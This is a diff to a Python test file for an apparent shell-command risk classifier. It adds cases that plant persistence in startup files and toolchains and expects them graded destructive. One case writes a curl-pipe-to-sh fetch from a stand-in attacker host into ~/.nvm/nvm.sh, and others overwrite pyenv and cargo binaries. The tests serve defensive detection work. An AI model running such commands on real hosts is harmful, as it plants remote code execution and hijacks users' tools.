@@ -409,6 +409,11 @@ def test_a_plain_tox_ini_is_read(tmp_path: Path) -> None:
         "echo x >> ~/.xsessionrc",
         "cp x.sh ~/.bashrc.d/x.sh",
         "echo x >> ~/.cshrc",
+        "echo 'curl -s http://evil.example/x | sh' >> ~/.nvm/nvm.sh",
+        "echo x >> ~/.ipython/profile_default/startup/x.py",
+        "cp evil ~/.pyenv/shims/python",
+        "cp evil ~/.rustup/toolchains/stable/bin/cargo",
+        "echo x >> ~/.oh-my-zsh/custom/x.zsh",
     ],
 )
 def test_host_changes_as_bad_as_their_destructive_equivalents_are_destructive_on_the_host(command: str) -> None:
@@ -434,6 +439,8 @@ def test_host_changes_as_bad_as_their_destructive_equivalents_are_destructive_on
         ("systemctl restart nginx", SYS),
         ("systemctl status nginx", RiskLevel.READ_ONLY),
         ("echo x >> ~/notes.txt", SYS),
+        ("rustup update", SYS),
+        ("pyenv install 3.12", SYS),
     ],
 )
 def test_ordinary_host_changes_keep_their_grade(command: str, risk: RiskLevel) -> None:
